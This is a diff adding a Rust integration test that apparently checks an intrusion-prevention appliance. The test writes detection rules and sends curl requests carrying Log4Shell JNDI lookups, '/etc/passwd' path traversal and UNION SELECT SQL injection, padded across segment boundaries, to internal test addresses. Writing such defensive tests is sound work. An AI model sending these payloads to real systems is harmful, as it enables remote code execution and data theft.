@@ -230,3 +230,60 @@ fn which_names_may_be_called() {
     }
     assert_eq!(seen.served, good, "{}", seen.appliance);
 }
+
+/// In the name of `curl`, in a path, in a body and in a body in chunks.
+const RULES: &str = r#"
+reject http any any -> any any (msg:"lookup"; http.user_agent; content:"${jndi:ldap"; nocase; sid:1; rev:1;)
+reject http any any -> any any (msg:"path"; http.uri; content:"/etc/passwd"; sid:2; rev:1;)
+reject http any any -> any any (msg:"query"; http.request_body; content:"union select"; nocase; sid:3; rev:1;)
+"#;
+
+#[test]
+fn no_exploit_reaches_the_server_however_it_is_cut() {
+    if !may_run() {
+        return;
+    }
+    let rules = Path::new(env!("CARGO_TARGET_TMPDIR")).join("guarded-exploits.rules");
+    fs::write(&rules, RULES).unwrap();
+    let config = format!("[signatures]\nfiles = [\"{}\"]\n", rules.display());
+    let lookup = |pad: usize| format!("-A '{}${{jNdi:LDAP://10.77.1.2/a}}'", "a".repeat(pad));
+    let mut requests = vec![
+        ("whole".to_owned(), format!("{} http://10.77.2.2/exploit", lookup(0))),
+        ("path".to_owned(), "--path-as-is http://10.77.2.2/exploit/%2e%2e/etc/pass%77d".to_owned()),
+    ];
+    // Segments of 48 bytes from here on: wherever they end, it is within what is looked for.
+    let narrow =
+        r"ip link set $(ip route get 10.77.2.2 | sed -n 's/.* \(dev [^ ]*\).*/\1/p') mtu 100";
+    requests.push(("narrow".to_owned(), format!("http://10.77.2.2/narrow; {narrow}")));
+    for pad in 0..48 {
+        let of = |kind: &str| format!("{kind}-{pad}");
+        let padding = "a".repeat(pad);
+        let body = |text: &str| format!("-X PUT -d '{padding}{text}' http://10.77.2.2");
+        requests.extend([
+            (of("header"), format!("{} http://10.77.2.2/exploit", lookup(pad))),
+            (of("path"), format!("http://10.77.2.2/{padding}/exploit/etc/passwd")),
+            (of("body"), format!("{}/exploit", body("1 UNION SELECT 2"))),
+            (
+                of("chunks"),
+                format!("-H 'Transfer-Encoding: chunked' {}/exploit", body("1 uNION sELECT 2")),
+            ),
+            (of("harmless"), format!("-A '{padding}$jndi' {}/{pad}", body("1 UNION, SELECT 2"))),
+        ]);
+    }
+    let named: Vec<_> = requests.iter().map(|(name, how)| (name.as_str(), how.as_str())).collect();
+    let seen = through("exploits", &config, &named);
+    // Curl's, and that the device was made narrow.
+    seen.assert_served("narrow");
+    let mut served = vec!["80 GET 10.77.2.2 /narrow".to_owned()];
+    for (name, _) in &named {
+        match name.strip_prefix("harmless-") {
+            _ if *name == "narrow" => {}
+            Some(pad) => {
+                seen.assert_served(name);
+                served.push(format!("80 PUT 10.77.2.2 /{pad}"));
+            }
+            None => seen.assert_reset(name),
+        }
+    }
+    assert_eq!(seen.served, served, "{}", seen.appliance);
+}
